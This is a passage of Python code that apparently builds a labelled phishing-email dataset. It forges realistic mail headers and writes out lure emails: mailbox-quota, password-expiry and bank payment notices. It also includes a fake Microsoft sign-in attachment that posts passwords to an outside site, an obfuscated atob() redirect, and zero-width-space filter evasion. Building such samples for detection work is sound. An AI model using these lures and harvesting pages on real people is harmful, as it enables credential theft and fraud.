        f"Received: from {m.helo} ([{m.ip}]) by mx.kundenserver.de ({mx} [212.227.15.41])\n"
        f" with ESMTPS (Nemesis) id 1{an(n, 'iid1', 5)}-1{an(n, 'iid2', 9)}-00{an(n, 'iid3', 4)}\n"
        f" for <{m.rcpt}>; {fmt(t, 'Europe/Berlin')}",
        f"Received-SPF: {m.spf} ({mx}: domain of {m.mailfrom} {verb} {m.ip} as permitted sender)\n"
        f" client-ip={m.ip}; envelope-from={m.mailfrom}; helo={m.helo};",
        ar_generic("mx.kundenserver.de", m),
        "X-Spam-Flag: NO",
        f"X-UI-Filterresults: notjunk:1;V03:K0:{b64(n, 'uif1', 11)}=:{fold(b64(n, 'uif2', 300), 76, ' ')}",
    ]
    return top, []


def rx_orange(m: Msg) -> tuple[list[str], list[str]]:
    n, t = m.name, m.when
    box = f"mwinf5d{num(n, 'orb', 10, 80)}"
    top = [
        f"Return-Path: <{m.mailfrom}>",
        f"Received: from {m.helo} ([{m.ip}])\n\tby {box} with ME\n\tid {an(n, 'ome', 16)}; {fmt(t, 'Europe/Paris')}",
        ar_generic("smtp-in.orange.fr", m),
        f"X-ME-Helo: {m.helo}",
        f"X-ME-IP: {m.ip}",
        f"X-ME-Date: {fmt(t, 'Europe/Paris')}",
        "X-ME-Entity: ofr",
        f"X-ME-SpamRating: {m.score:.1f}",
    ]
    return top, []


def rx_free(m: Msg) -> tuple[list[str], list[str]]:
    n, t = m.name, m.when
    mx = f"mx{num(n, 'fr1', 1, 2)}-g{num(n, 'fr2', 20, 25)}.free.fr"
    top = [
        f"Return-Path: <{m.mailfrom}>",
        f"Delivered-To: {m.rcpt}",
        f"Received: from {m.helo} ({m.rdns or 'unknown'} [{m.ip}])\n\tby {mx} (Postfix) with ESMTPS id {hx(n, 'frq', 10).upper()}\n"
        f"\tfor <{m.rcpt}>; {fmtz(t, 'Europe/Paris')}",
        ar_generic(mx, m),
        f"X-ProXaD-SC: state=HAM score={int(m.score)}",
    ]
    return top, []


def rx_tonline(m: Msg) -> tuple[list[str], list[str]]:
    n, t = m.name, m.when
    box = f"mailin{num(n, 'tb', 10, 99)}.aul.t-online.de"
    top = [
        f"Return-Path: <{m.mailfrom}>",
        f"Received: from {m.helo} ({m.rdns or 'unknown'} [{m.ip}]) by {box}\n"
        f"\twith (TLSv1.3:TLS_AES_256_GCM_SHA384 encrypted)\n\tesmtp id 1{an(n, 'tid', 5)}-{an(n, 'tid2', 7)}; "
        f"{fmt(t, 'Europe/Berlin')}",
        ar_generic(box, m),
        f"X-TOI-EXPURGATEID: 150726::{int(t.timestamp())}-{hx(n, 'te1', 8).upper()}-{hx(n, 'te2', 8).upper()}/0/0 CLEAN NORMAL",
        "X-TOI-SPAMCLASS: CLEAN, NORMAL",
        "X-TOI-VIRUSSCAN: clean",
        f"X-TOI-MSGID: {guid(n, 'toi')}",
        f"X-Env-Mailfrom: {m.mailfrom}",
        f"X-Env-Rcptto: {m.rcpt}",
    ]
    return top, []


def rx_comcast(m: Msg) -> tuple[list[str], list[str]]:
    n, t = m.name, m.when
    box = f"resimta-h1p-0{num(n, 'cb', 20000, 39999)}.sys.comcast.net"
    top = [
        f"Return-Path: <{m.mailfrom}>",
        f"Received: from {m.helo} ([{m.ip}])\n\tby {box} with ESMTPS\n\tid {an(n, 'cid', 14)}; {fmt(t)}",
        ar_generic(box, m),
        f"X-Xfinity-VAAS: {fold('gggruggvucftvghtrhhoucdtuddrgedv' + lc(n, 'xv', 160), 76, ' ')}",
        f"X-Xfinity-VMeta: sc={m.score:.2f};st=legit",
        f"X-Xfinity-Message-Heuristics: IPv6:N;TLS=1;SPF={1 if m.spf == 'pass' else 0};"
        f"DMARC={'' if m.dmarc == 'none' else ('1' if m.dmarc == 'pass' else '0')}",
        "X-CAA-SPAM: F00000",
    ]
    return top, []


def rx_libero(m: Msg) -> tuple[list[str], list[str]]:
    n, t = m.name, m.when
    top = [
        f"Return-Path: <{m.mailfrom}>",
        f"Received: from {m.helo} ([{m.ip}])\n\tby mx{num(n, 'lmx', 1, 9)}.libero.it with ESMTPS\n"
        f"\tid {an(n, 'lid', 10)}; {fmt(t, 'Europe/Rome')}",
        ar_generic("libero.it", m),
        f"X-CNFS-Analysis: v=2.4 cv={b64(n, 'cnfs1', 8)} c=1 sm=1 tr=0 ts={hx(n, 'cnfs2', 8)}\n"
        f" a={b64(n, 'cnfs3', 22)}:117 a={b64(n, 'cnfs4', 22)}:17 a={b64(n, 'cnfs5', 10)}:10",
        f"X-Spam-Flag: NO",
    ]
    return top, []


def rx_kpn(m: Msg) -> tuple[list[str], list[str]]:
    n, t = m.name, m.when
    top = [
        f"Return-Path: <{m.mailfrom}>",
        f"Received: from {m.helo} ({m.rdns or 'unknown'} [{m.ip}])\n\tby mx{num(n, 'kmx', 1, 9)}.kpnmail.nl (Halon) with ESMTPS\n"
        f"\tid {guid(n, 'kid')}; {fmt(t, 'Europe/Amsterdam')}",
        ar_generic("kpnmail.nl", m),
        "X-KPN-SpamVerdict: e1=0;e2=0;e3=0;e4=0;EVW:White;BM:NotScanned;FinalVerdict:Clean",
        f"X-KPN-MessageId: {guid(n, 'kpnmid')}",
        "X-KPN-VerifiedSender: No",
    ]
    return top, []


RECEIVERS = {
    "gmail": rx_gmail, "exim": rx_exim, "m365": rx_m365, "fastmail": rx_fastmail, "proton": rx_proton,
    "ovh": rx_ovh, "ionos": rx_ionos, "orange": rx_orange, "free": rx_free, "tonline": rx_tonline,
    "comcast": rx_comcast, "libero": rx_libero, "kpn": rx_kpn,
}


def render(m: Msg) -> bytes:
    top, bottom = RECEIVERS[RCPTS[m.rcpt]](m)
    head = "\n".join(top) + "\n" + m.head.strip("\n")
    if bottom:
        head += "\n" + "\n".join(bottom)
    return mime.message(head, m.body)


# ---------------------------------------------------------------------------
# Sender-side Received lines, Message-IDs, boundaries
# ---------------------------------------------------------------------------


def r_exim_auth(name: str, host: str, client_ip: str, mailfrom: str, rcpt: str, moment: datetime, zone: str = "UTC",
                helo: str | None = None) -> str:
    return (f"Received: from [{client_ip}] (port={num(name, 'sp', 20000, 65000)} helo={helo or '[' + client_ip + ']'})\n"
            f"\tby {host} with esmtpsa  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.96.2)\n"
            f"\t(envelope-from <{mailfrom}>)\n\tid {an(name, 'se1', 6)}-{an(name, 'se2', 6)}-{an(name, 'se3', 2)}\n"
            f"\tfor {rcpt};\n\t{fmt(moment, zone)}")


def gsel(moment: datetime) -> str:
    """Gmail's DKIM selector in use at that date."""
    if moment < at("2022-12-15 00:00:00"):
        return "20210112"
    return "20221208" if moment < at("2023-06-15 00:00:00") else "20230601"


def gmail_sender_head(name: str, moment: datetime) -> str:
    """What Gmail adds to mail its users send: its own DKIM, the X-Google headers."""
    return "\n".join([
        dkim(name, "gmail.com", gsel(moment), moment,
             "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to"),
        f"X-Google-DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed;\n        d=1e100.net; s={gsel(moment)}; "
        f"t={int(moment.timestamp())}; x=" f"{int(moment.timestamp()) + 604800};\n"
        f"        h=to:subject:message-id:date:from:mime-version:x-gm-message-state\n"
        f"         :from:to:cc:subject:date:message-id:reply-to;\n"
        f"        bh={b64(name, 'xgbh', 43)}=;\n        b={fold(b64(name, 'xgb', 342) + '==', 70, '         ')}",
        f"X-Gm-Message-State: {b64(name, 'gms', 66)}",
        f"X-Google-Smtp-Source: {b64(name, 'gss2', 66)}",
        f"X-Received: by 2002:a05:6000:{hx(name, 'gs1', 4)}:b0:{hx(name, 'gs2', 3)}:{hx(name, 'gs3', 4)}:{hx(name, 'gs4', 3)} "
        f"with SMTP id {lc(name, 'gsx', 2)}{num(name, 'gsy', 1000, 9999)}.{int(moment.timestamp() * 1000) - 2211};\n"
        f"        {fmtz(moment - timedelta(seconds=2), 'America/Los_Angeles')}",
    ])


def gmail_mid(name: str) -> str:
    return f"<CA{an(name, 'gmid1', 3)}{an(name, 'gmid2', 43)}@mail.gmail.com>"


def outlook_mid(name: str, prefix: str, region: str) -> str:
    box = f"{prefix}MB{num(name, 'omb', 1000, 9999)}"
    return f"<{box}{hx(name, 'omid', 20).upper()}@{box}.{region}.prod.outlook.com>"


def r_m365_out(name: str, prefix: str, region: str, moment: datetime) -> str:
    box = f"{prefix}MB{num(name, 'omb', 1000, 9999)}"
    return (f"Received: from {box}.{region}.prod.outlook.com\n ([fe80::{hx(name, 'fe1', 4)}:{hx(name, 'fe2', 4)}:{hx(name, 'fe3', 4)}:"
            f"{hx(name, 'fe4', 4)}]) by {box}.{region}.prod.outlook.com\n ([fe80::{hx(name, 'fe1', 4)}:{hx(name, 'fe2', 4)}:"
            f"{hx(name, 'fe3', 4)}:{hx(name, 'fe4', 4)}%5]) with mapi id 15.20.{num(name, 'obld', 6800, 8900)}.{num(name, 'obld2', 10, 40):03d}; "
            f"{fmt(moment)}")


def phpmailer_mid(name: str, domain: str) -> str:
    return f"<{an(name, 'pmid', 43)}@{domain}>"


def roundcube_mid(name: str, domain: str) -> str:
    return f"<{hx(name, 'rcmid', 32)}@{domain}>"


def bnd(name: str, style: str, k: int = 0) -> str:
    s = f"{style}{k}"
    if style == "outlook":
        return f"_00{k}_{hx(name, s, 8).upper()}{hx(name, s + 'b', 8).upper()}_"
    if style == "gmail":
        return f"0000000000{hx(name, s, 16)}"
    if style == "php":
        return f"b{k + 1}_{an(name, s, 43)}"
    if style == "roundcube":
        return f"=_{hx(name, s, 32)}"
    if style == "java":
        return f"----=_Part_{num(name, s, 100000, 9999999)}_{num(name, s + 'b', 100000000, 999999999)}.{num(name, s + 'c', 10 ** 12, 10 ** 13)}"
    if style == "apple":
        return f"Apple-Mail={guid(name, s).upper()}"
    return f"--==_mimepart_{hx(name, s, 13)}_{num(name, s + 'b', 1000, 9999)}"


def alt(name: str, plain: str, html: str, style: str = "php", k: int = 0, encoding: str = "quoted-printable") -> Multi:
    return Multi("alternative", bnd(name, style, k),
                 [mime.text(plain, "plain", encoding), mime.text(html, "html", encoding)])


def html_only(html: str, encoding: str = "quoted-printable") -> Leaf:
    return mime.text(html, "html", encoding)


def plain(text: str, encoding: str = "quoted-printable") -> Leaf:
    return mime.text(text, "plain", encoding)


def mixed(name: str, parts: list, style: str = "php", k: int = 1) -> Multi:
    return Multi("mixed", bnd(name, style, k), parts)


def related(name: str, parts: list, style: str = "php", k: int = 2) -> Multi:
    return Multi("related", bnd(name, style, k), parts, '\n\ttype="text/html";')


def att(ctype: str, filename: str, data: bytes) -> Leaf:
    return mime.attachment(ctype, filename, data)


def inline_img(ctype: str, filename: str, data: bytes, cid: str) -> Leaf:
    return mime.attachment(ctype, filename, data, inline=True, cid=cid)


def html2text(markup: str) -> str:
    """A crude plain-text rendering (links as 'label <url>'), as many mailers generate the text part."""
    text = re.sub(r"(?is)<(style|script|head)\b.*?</\1>", "", markup)
    text = re.sub(r'(?is)<a\b[^>]*href="([^"]+)"[^>]*>(.*?)</a>',
                  lambda mo: f"{re.sub('<[^>]+>', '', mo.group(2)).strip()} <{mo.group(1)}>", text)
    text = re.sub(r"(?i)<br\s*/?>", "\n", text)
    text = re.sub(r"(?i)</(p|div|tr|h[1-6]|li|table)>", "\n", text)
    text = re.sub(r"<[^>]+>", "", text)
    text = html.unescape(text).replace("\xa0", " ")
    lines = [re.sub(r"[ \t]+", " ", line).strip() for line in text.split("\n")]
    out, blank = [], False
    for line in lines:
        if not line:
            if not blank and out:
                out.append("")
            blank = True
            continue
        out.append(line)
        blank = False
    return "\n".join(out).strip() + "\n"


# ---------------------------------------------------------------------------
# Images and PDFs made for this set
# ---------------------------------------------------------------------------


def _font(size: int):
    from PIL import ImageFont

    return ImageFont.load_default(size=size)


def banner_png(lines: list[tuple[str, int, tuple[int, int, int]]], size: tuple[int, int], bg=(255, 255, 255),
               button: tuple[str, tuple[int, int, int]] | None = None, header: tuple[str, tuple[int, int, int]] | None = None,
               fmt_: str = "PNG") -> bytes:
    """An image of a notice: an optional brand bar, lines of text, an optional button (as image-only phishing ships)."""
    from PIL import Image, ImageDraw

    width, height = size
    image = Image.new("RGB", size, bg)
    draw = ImageDraw.Draw(image)
    y = 20
    if header:
        draw.rectangle([0, 0, width, 70], fill=header[1])
        draw.text((30, 18), header[0], fill=(255, 255, 255), font=_font(32))
        y = 95
    for text, fsize, colour in lines:
        draw.text((30, y), text, fill=colour, font=_font(fsize))
        y += int(fsize * 1.55)
    if button:
        draw.rectangle([30, y + 10, 330, y + 62], fill=button[1])
        draw.text((52, y + 24), button[0], fill=(255, 255, 255), font=_font(22))
    buffer = io.BytesIO()
    if fmt_ == "JPEG":
        image.save(buffer, "JPEG", quality=80)
    else:
        image.save(buffer, "PNG", optimize=False)
    return buffer.getvalue()


def qr_pdf(url: str, lines: list[str], title: str) -> bytes:
    """A one-page PDF with text lines and a QR code image for ``url`` (Flate-compressed grey image)."""
    from PIL import Image

    qr = Image.open(io.BytesIO(files.qr_png(url))).convert("L")
    raw = qr.tobytes()
    image = zlib.compress(raw, 9)
    text_ops = ["BT", "/F1 12 Tf", "15 TL", "60 780 Td"]
    for line in lines:
        text_ops.append("(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") Tj T*")
    text_ops.append("ET")
    side = 200
    text_ops += ["q", f"{side} 0 0 {side} 60 {520 - side // 2} cm", "/Im1 Do", "Q"]
    stream = "\n".join(text_ops).encode("latin-1")
    objects = files.image_page(stream, image, qr.width, qr.height, "FlateDecode")
    objects.append(f"<< /Title ({title}) /Producer (Skia/PDF m120) /CreationDate (D:20241022081500+02'00') >>".encode())
    return files.pdf_file(objects, 7)


SAMPLES: list[Msg] = []


def add(m: Msg) -> None:
    SAMPLES.append(m)


def zw(text: str, words: list[str]) -> str:
    """Insert zero-width spaces inside the given words (filter-evasion seen in kits)."""
    for word in words:
        text = text.replace(word, "\u200b".join(word))
    return text


# ===========================================================================
# Phishing
# ===========================================================================


def p_mailadmin_quota_cpanel() -> None:
    n = "b9-mailadmin-quota-cpanel"
    t = at("2022-09-13 07:41:18")
    rcpt = "info@brightwater-plumbing.co.uk"
    sender = "info@inmobiliaria-sanroque.com.ar"
    host = "c2410.cloudhosting-ar.net"
    link = f"https://fincaelmirador-tenerife.com/wp-content/upgrade/cp/index.php?email={rcpt}"
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333">
<div style="max-width:560px;border:1px solid #ddd;padding:20px">
<h2 style="color:#c0392b;margin-top:0">Mailbox Storage Quota Exceeded</h2>
<p>Dear info,</p>
<p>Your mailbox <b>{rcpt}</b> has exceeded the storage limit set by your administrator.</p>
<table style="width:100%;border-collapse:collapse;margin:10px 0">
<tr><td style="padding:4px">Used:</td><td style="padding:4px"><b>4.93 GB</b> of 5.00 GB (98%)</td></tr>
<tr><td style="padding:4px">Messages on hold:</td><td style="padding:4px"><b>17</b></td></tr>
</table>
<div style="background:#eee;height:14px;width:100%"><div style="background:#c0392b;height:14px;width:98%"></div></div>
<p>You will not be able to send or receive new mail until your mailbox storage is increased.
Incoming messages are being held on the server.</p>
<p style="text-align:center;margin:24px 0"><a href="{link}" style="background:#2a6ebb;color:#fff;padding:12px 26px;text-decoration:none;border-radius:3px">Increase Storage Now</a></p>
<p style="font-size:12px;color:#777">Note: If the quota is not increased within 24 hours, held messages will be permanently deleted.</p>
<p style="font-size:12px;color:#777">brightwater-plumbing.co.uk Mail Administrator<br>This is an automated message from the cPanel mail server. Please do not reply.</p>
</div></body></html>
"""
    head = f"""{dkim(n, "inmobiliaria-sanroque.com.ar", "default", t, "Content-Transfer-Encoding:Content-Type:MIME-Version:Message-ID:Subject:To:From:Date:Sender:Reply-To")}
{r_exim_auth(n, host, "102.89.34.17", sender, rcpt, t - timedelta(seconds=3), "America/Argentina/Buenos_Aires", "WIN-3QK2HV8L1A")}
Date: {fmt(t - timedelta(seconds=4), "America/Argentina/Buenos_Aires")}
To: {rcpt}
From: {who("brightwater-plumbing.co.uk Mail Admin", sender)}
Subject: Mailbox Storage Quota Exceeded - {rcpt} (98%)
Message-ID: {phpmailer_mid(n, "inmobiliaria-sanroque.com.ar")}
X-Mailer: PHPMailer 6.6.4 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(Msg(n, "phishing",
            "Mail-quota lure naming the recipient's own domain in the display name ('<domain> Mail Admin'), "
            "sent by PHPMailer from a compromised Argentine mailbox; button to a kit on a compromised WordPress site with the address prefilled",
            rcpt, t, "190.105.226.41", host, host, sender, "pass", [("inmobiliaria-sanroque.com.ar", "default", "pass")], "none",
            head, alt(n, html2text(html), html), ctry="AR", score=3.4))


def p_password_expiry_university() -> None:
    n = "b9-password-expiry-university"
    t = at("2023-10-03 08:12:41")
    rcpt = "l.carter@ashgrove.ac.uk"
    sender = "m.quispe@posgrado-unat.edu.pe"
    link = "https://ashgrove-ac-uk-sso-renew.web.app/?login=l.carter%40ashgrove.ac.uk"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><div style="font-family:Calibri,Arial,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)">
<p><b>Ashgrove University IT Service Desk</b></p>
<p>Dear Staff/Student,</p>
<p>The password for your account <b>{rcpt}</b> expires today, 03 October 2023.</p>
<p>To keep using your current password and avoid losing access to Outlook, Teams and Moodle, please confirm it below:</p>
<p><a href="{link}" style="background-color:#0078d4;color:#ffffff;padding:8px 18px;text-decoration:none">Keep Current Password</a></p>
<p>Failure to confirm will lead to your account being locked and you will need to visit the IT office in person.</p>
<p>Thank you,<br>IT Service Desk<br>Ashgrove University</p>
</div></body></html>
"""
    head = f"""{dkim(n, "posgradounat.onmicrosoft.com", "selector1-posgradounat-onmicrosoft-com", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")}
{r_m365_out(n, "SJ0PR11", "namprd11", t - timedelta(seconds=2))}
From: {who("Ashgrove University IT Service Desk", sender)}
To: {who("Maria Quispe Huaman", sender)}
Subject: Password Expiration Notice for {rcpt}
Thread-Topic: Password Expiration Notice for {rcpt}
Thread-Index: {b64(n, 'thi', 30)}==
Date: {fmt(t - timedelta(seconds=3))}
Message-ID: {outlook_mid(n, "SJ0PR11", "namprd11")}
Accept-Language: es-PE, en-US
Content-Language: es-PE
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add(Msg(n, "phishing",
            "University password-expiry lure ('Keep Current Password') from a compromised account at another university's "
            "Microsoft 365 tenant, recipient in Bcc; link to a Firebase web.app page carrying the victim's login",
            rcpt, t, "40.107.220.59", "mail-bn8nam11on2059.outbound.protection.outlook.com",
            "NAM11-BN8-obe.outbound.protection.outlook.com", sender, "pass",
            [("posgradounat.onmicrosoft.com", "selector1-posgradounat-onmicrosoft-com", "pass")], "none",
            head, alt(n, html2text(html), html, "outlook"), ctry="US", lang="en"))


def p_pending_messages_ovh() -> None:
    n = "b9-pending-messages-ovh"
    t = at("2024-02-20 09:27:05")
    rcpt = "claire@famille-lebreton.fr"
    sender = "contact@cabinet-verrier-kine.fr"
    link = f"https://ipfs.io/ipfs/bafybei{lc(n, 'cid', 52)}?filename=webmail-login.html#{rcpt}"
    words = ["messages", "attente", "webmail", "vérifier", "supprimés", "Libérer"]
    html = zw(f"""<html><body style="font-family:Verdana,sans-serif;font-size:13px">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td style="background:#123f6d;color:#fff;padding:14px;font-size:18px">famille-lebreton.fr &middot; Webmail</td></tr>
<tr><td style="padding:18px">
<p>Bonjour claire,</p>
<p>Vous avez <b>7 messages</b> entrants en attente de livraison pour <b>{rcpt}</b>.</p>
<p>Ces messages ont été bloqués suite à une erreur de synchronisation de votre boîte webmail. Veuillez vérifier votre compte pour les recevoir.</p>
<p><a href="{link}" style="background:#1a73e8;color:#fff;padding:10px 22px;text-decoration:none">Libérer les messages</a></p>
<p style="color:#888;font-size:11px">Les messages non récupérés sous 48 heures seront supprimés automatiquement.<br>
&copy; 2024 famille-lebreton.fr &mdash; Service de messagerie</p>
</td></tr></table></body></html>
""", words)
    text = zw(f"""Bonjour claire,

Vous avez 7 messages entrants en attente de livraison pour {rcpt}.
Ces messages ont été bloqués suite à une erreur de synchronisation de votre boîte webmail.

Libérer les messages : {link}

Les messages non récupérés sous 48 heures seront supprimés automatiquement.
""", words)
    ovh_out = f"mo{num(n, 'mo', 500, 599)}.mail-out.ovh.net"
    head = f"""Received: from ssl0.ovh.net (unknown [10.108.2.{num(n, 'ssl', 2, 250)}])
\tby {ovh_out} (Postfix) with ESMTPS id 4{an(n, 'oq3', 13)}
\tfor <{rcpt}>; {fmtz(t - timedelta(seconds=2), "UTC")}
Received: from [41.250.97.12] (unknown [41.250.97.12])
\tby ssl0.ovh.net (Postfix) with ESMTPSA id 4{an(n, 'oq4', 13)};
\t{fmtz(t - timedelta(seconds=3), "UTC")}
MIME-Version: 1.0
Date: {fmt(t - timedelta(seconds=4), "Europe/Paris")}
From: {who("famille-lebreton.fr Webmail", sender)}
To: {rcpt}
Subject: {ew(zw("Messages en attente : 7 courriels n'ont pas été livrés", ["attente", "livrés"]))}
Message-ID: {roundcube_mid(n, "cabinet-verrier-kine.fr")}
X-Sender: {sender}
User-Agent: Roundcube Webmail/1.6.5
X-Originating-IP: 41.250.97.12
X-Webmail-UserID: {sender}"""
    add(Msg(n, "phishing",
            "French 'pending incoming messages' webmail lure styled as the recipient's own domain webmail, sent from a "
            "compromised OVH mailbox through Roundcube; zero-width spaces split the key words; link to an IPFS gateway page with the address in the fragment",
            rcpt, t, "46.105.45.22", ovh_out, ovh_out, sender, "pass", [], "none",
            head, alt(n, text, html, "roundcube"), ctry="FR", score=12, lang="fr"))


def p_ndr_spoofed_ionos() -> None:
    n = "b9-ndr-spoofed-ionos"
    t = at("2023-06-08 05:13:52")
    rcpt = "info@schreinerei-albrecht.de"
    sender = "postmaster@schreinerei-albrecht.de"
    token = base64.b64encode(rcpt.encode()).decode()
    link = f"https://pub-{hx(n, 'r2', 32)}.r2.dev/mail-release.html#{token}"
    rows = [("Angebot Einbauküche Familie Hartmann", "06.06.2023 14:22"), ("Rechnung 2023-114 / Holzhandel Berger", "06.06.2023 16:05"),
            ("AW: Terminbestätigung Aufmaß", "07.06.2023 09:41"), ("Bestellung Nr. 88412", "07.06.2023 11:18")]
    trs = "\n".join(f'<tr><td style="padding:4px 8px;border-bottom:1px solid #eee">{s}</td>'
                    f'<td style="padding:4px 8px;border-bottom:1px solid #eee">{d}</td></tr>' for s, d in rows)
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:13px;color:#222">
<p><b>Zustellung fehlgeschlagen</b></p>
<p>Für Ihr Postfach <b>{rcpt}</b> konnten 4 eingehende Nachrichten aufgrund eines Fehlers bei der Serversynchronisation nicht zugestellt werden:</p>
<table style="border-collapse:collapse">
<tr><th style="text-align:left;padding:4px 8px">Betreff</th><th style="text-align:left;padding:4px 8px">Empfangen</th></tr>
{trs}
</table>
<p>Bitte bestätigen Sie Ihr Postfach, um die Nachrichten freizugeben:</p>
<p><a href="{link}" style="background:#003d8f;color:#fff;padding:9px 20px;text-decoration:none">Nachrichten jetzt abrufen</a></p>
<p style="font-size:11px;color:#777">Nicht abgerufene Nachrichten werden nach 72 Stunden an den Absender zurückgesendet.<br>
Mail Delivery System &middot; schreinerei-albrecht.de</p>
</body></html>
"""
    head = f"""Date: {fmt(t - timedelta(seconds=2), "Europe/Berlin")}
From: {who("Mail Delivery System", sender)}
To: {rcpt}
Subject: {ew("Unzustellbar: 4 eingehende Nachrichten wurden zurückgehalten")}
Message-ID: <{hx(n, 'mid', 24)}@schreinerei-albrecht.de>
MIME-Version: 1.0"""
    add(Msg(n, "phishing",
            "German fake delivery-failure notice spoofing postmaster@ the recipient's own domain from a VPS (SPF fail, no DMARC "
            "record so delivered); 'release held messages' button to a Cloudflare R2 bucket page with the base64 address",
            rcpt, t, "193.142.147.58", "vmi1184822.contaboserver.net", "schreinerei-albrecht.de", sender, "fail", [], "none",
            head, html_only(html), ctry="DE", lang="de"))


def _ms_login_page(email: str, action: str, title: str, heading: str, note: str, button: str = "Sign in",
                   pw_label: str = "Password") -> str:
    return f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>{title}</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<style>body{{margin:0;font-family:'Segoe UI',Arial,sans-serif;background:#f2f2f2 url('https://aadcdn.msftauth.net/shared/1.0/content/images/backgrounds/2_bc3d32a696895f78c19df6c717586a5d.svg') center/cover}}
.box{{width:380px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}}
input{{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:8px 0 18px}}
button{{background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right;font-size:15px}}</style></head>
<body><div class="box">
<img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" width="108" alt="Microsoft">
<h2 style="font-weight:600">{heading}</h2>
<p style="font-size:13px">{note}</p>
<form method="POST" action="{action}">
<input type="email" name="login" value="{email}" readonly>
<input type="password" name="passwd" placeholder="{pw_label}" required autofocus>
<input type="hidden" name="src" value="attachment">
<button type="submit">{button}</button>
</form></div></body></html>
"""


def p_remittance_html_form() -> None:
    n = "b9-remittance-html-form"
    t = at("2022-11-22 14:06:33")
    rcpt = "tom@oakfield-joinery.com"
    sender = "accounts@hallmark-construct.co.uk"
    page = _ms_login_page(rcpt, "https://siervasdemaria-lima.org/wp-admin/css/colors/ocean/next.php",
                          "Remittance Advice - RA-20417", "Verify your identity",
                          "This document is protected. Sign in with your email account to view Remittance_Advice_RA-20417.pdf")
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body><div style="font-family:Calibri,Arial,sans-serif;font-size:11pt">
<p>Good afternoon,</p>
<p>Please find attached remittance advice for the payment released to your account today.</p>
<p>Kind regards,</p>
<p>Accounts Payable<br>Hallmark Construction Ltd</p>
</div></body></html>
"""
    body = mixed(n, [alt(n, html2text(html), html, "outlook", 0),
                     att("text/html", "Remittance_Advice_RA-20417.html", page.encode())], "outlook", 1)
    head = f"""{dkim(n, "hallmark-construct.co.uk", "selector1", t, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")}
{r_m365_out(n, "CWLP123", "gbrp123", t - timedelta(seconds=2))}
From: {who("Accounts Payable - Hallmark Construction", sender)}
To: {who("Tom", rcpt)}
Subject: Remittance Advice - RA-20417 - Oakfield Joinery
Thread-Topic: Remittance Advice - RA-20417 - Oakfield Joinery
Thread-Index: {b64(n, 'thi', 30)}==
Date: {fmt(t - timedelta(seconds=3))}
Message-ID: {outlook_mid(n, "CWLP123", "gbrp123")}
Accept-Language: en-GB, en-US
Content-Language: en-GB
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    add(Msg(n, "phishing",
            "Remittance-advice lure from a compromised supplier's Microsoft 365 mailbox (authentication passes); the HTML "
            "attachment is a Microsoft sign-in page with the address prefilled that posts the password to a compromised WordPress site",
            rcpt, t, "40.107.23.91", "mail-cwlgbr01on2091.outbound.protection.outlook.com",
            "GBR01-CWL-obe.outbound.protection.outlook.com", sender, "pass",
            [("hallmark-construct.co.uk", "selector1", "pass")], "pass", head, body, dmarc_p="none", ctry="GB"))


def p_payment_atob_redirect() -> None:
    n = "b9-payment-atob-redirect"
    t = at("2024-05-14 10:52:19")
    rcpt = "reception@harrowfield-dental.co.uk"
    sender = "payments@hsbc-payadvice.com"
    part1 = base64.b64encode(b"https://hsbc-remit.sbs/auth/").decode()
    part2 = base64.b64encode(b"index.php?id=").decode()
    email = base64.b64encode(rcpt.encode()).decode()
    page = f"""<html><head><meta charset="utf-8"><title>HSBC - Payment Advice</title></head>
<body style="background:#fff"><p style="font-family:Arial;color:#999">Loading secure document, please wait...</p>
<script>
var _0x4f1a=["{part1}","{part2}"];var _0xe="{email}";
function _0x2c(a){{return atob(a)}}
setTimeout(function(){{window.location.replace(_0x2c(_0x4f1a[0])+_0x2c(_0x4f1a[1])+_0xe)}},600);
</script></body></html>
"""
    html = """<html><body style="font-family:Arial,sans-serif;font-size:13px">
<p>Dear Customer,</p>
<p>Please find attached the payment advice for a transfer of <b>GBP 4,860.00</b> made to your account by our client.</p>
<p>The attached document contains the transaction details and remittance reference. Funds should reflect within 1-2 working days.</p>
<p>Regards,<br>HSBC UK Payments Services</p>
<p style="font-size:10px;color:#888">This e-mail is confidential. HSBC UK Bank plc. Registered in England and Wales.</p>
</body></html>
"""
    body = mixed(n, [alt(n, html2text(html), html, "php", 0),
                     att("text/html", "HSBC_Payment_Advice_14052024.html", page.encode())], "php", 1)
    head = f"""Received: from localhost (localhost [127.0.0.1])
\tby mail.hsbc-payadvice.com (Postfix) with ESMTP id {hx(n, 'loc', 10).upper()}
\tfor <{rcpt}>; {fmtz(t - timedelta(seconds=1), "UTC")}
{dkim(n, "hsbc-payadvice.com", "mail", t)}
Date: {fmt(t - timedelta(seconds=2))}
To: {rcpt}
From: {who("HSBC UK Payments", sender)}
Subject: Payment Advice - GBP 4,860.00 - Ref HSBC0524-7781
Message-ID: {phpmailer_mid(n, "hsbc-payadvice.com")}
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    add(Msg(n, "phishing",
            "Bank payment-advice lure from a throwaway HSBC lookalike domain; the HTML attachment decodes its target with atob() "
